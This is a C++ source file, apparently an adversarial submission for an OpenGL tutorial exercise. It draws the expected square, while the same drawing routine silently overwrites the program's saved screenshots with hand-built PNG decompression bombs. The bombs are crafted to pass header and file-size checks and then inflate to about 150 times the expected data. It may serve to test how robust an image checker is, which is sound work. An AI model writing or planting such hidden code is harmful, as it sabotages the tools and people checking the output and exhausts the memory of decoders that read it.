// Draws the expected square, and at every frame writes over each picture the program has taken
// since a PNG of the same size whose pixel data inflates to about 150 times what that size
// holds: a bomb for a reader that inflates without a bound, which passes a check of its header
// and of its file's size.
#include "Tutorial.h"

#include <GL/gl.h>

#include <cstdint>
#include <cstdio>
#include <string>
#include <vector>

namespace
{

const char* const Pictures[][2] = {{"792", "573"}, {"960", "400"}, {"400", "720"}};

void Put32(std::vector<std::uint8_t>& Out, std::uint32_t Value)
{
    for (int Shift = 24; Shift >= 0; Shift -= 8)
        Out.push_back(std::uint8_t(Value >> Shift));
}

std::uint32_t Crc32(const std::uint8_t* Data, std::size_t Size)
{
    std::uint32_t Crc = 0xFFFFFFFFu;
    for (std::size_t I = 0; I < Size; ++I)
    {
        Crc ^= Data[I];
        for (int K = 0; K < 8; ++K)
            Crc = Crc & 1 ? 0xEDB88320u ^ (Crc >> 1) : Crc >> 1;
    }
    return ~Crc;
}

void Chunk(std::vector<std::uint8_t>& Png, const char* Kind, const std::vector<std::uint8_t>& Body)
{
    Put32(Png, std::uint32_t(Body.size()));
    const std::size_t Start = Png.size();
    Png.insert(Png.end(), Kind, Kind + 4);
    Png.insert(Png.end(), Body.begin(), Body.end());
    Put32(Png, Crc32(Png.data() + Start, Png.size() - Start));
}

// Zeros in one block of deflate's fixed codes: a literal 0, then copies of 258 bytes from one
// byte back (13 bits each, most significant bit first as Huffman codes go), then the block's end.
std::vector<std::uint8_t> Zeros(std::size_t Copies)
{
    std::vector<std::uint8_t> Out = {0x78, 0x01};
    std::uint32_t Pending = 0;
    int Used = 0;
    const auto Code = [&](std::uint32_t Bits, int Length)
    {
        for (int I = Length - 1; I >= 0; --I)
        {
            Pending |= (Bits >> I & 1) << Used;
            if (++Used == 8)
                Out.push_back(std::uint8_t(Pending)), Pending = 0, Used = 0;
        }
    };
    Code(0b110, 3); // the last block, fixed codes (its two bits written least significant first)
    Code(0x30, 8);  // the literal 0
    for (std::size_t I = 0; I < Copies; ++I)
    {
        Code(0xC5, 8); // length 258
        Code(0, 5);    // distance 1
    }
    Code(0, 7); // the block's end
    if (Used)
        Out.push_back(std::uint8_t(Pending));
    const std::uint64_t Size = 1 + std::uint64_t(Copies) * 258;
    Put32(Out, std::uint32_t(Size % 65521) << 16 | 1); // Adler-32 of as many zeros
    return Out;
}

std::vector<std::uint8_t> Bomb(std::uint32_t Width, std::uint32_t Height)
{
    std::vector<std::uint8_t> Png = {0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'};
    std::vector<std::uint8_t> Header;
    Put32(Header, Width);
    Put32(Header, Height);
    Header.insert(Header.end(), {8, 2, 0, 0, 0});
    Chunk(Png, "IHDR", Header);
    // As many bytes as the honest picture's rows: no larger than a PNG of that size may be.
    Chunk(Png, "IDAT", Zeros(std::size_t(Height) * (1 + 3 * Width) * 8 / 13));
    Chunk(Png, "IEND", {});
    return Png;
}

} // namespace

void TForm1::DrawScene()
{
    for (const auto& Size : Pictures)
    {
        const std::string Name = std::string("pictures\\") + Size[0] + "x" + Size[1] + "@0.png";
        WIN32_FILE_ATTRIBUTE_DATA Found;
        if (!::GetFileAttributesExA(Name.c_str(), GetFileExInfoStandard, &Found) ||
            Found.nFileSizeLow > 200000)
            continue; // not taken yet, or a bomb already
        const std::vector<std::uint8_t> Png = Bomb(std::stoul(Size[0]), std::stoul(Size[1]));
        if (std::FILE* File = std::fopen((Name + ".new").c_str(), "wb"))
        {
            std::fwrite(Png.data(), 1, Png.size(), File);
            std::fclose(File);
            ::MoveFileExA((Name + ".new").c_str(), Name.c_str(), MOVEFILE_REPLACE_EXISTING);
        }
    }
    ::glClear(GL_COLOR_BUFFER_BIT);
    ::glRectf(-3.0f, -3.0f, 3.0f, 3.0f);
}
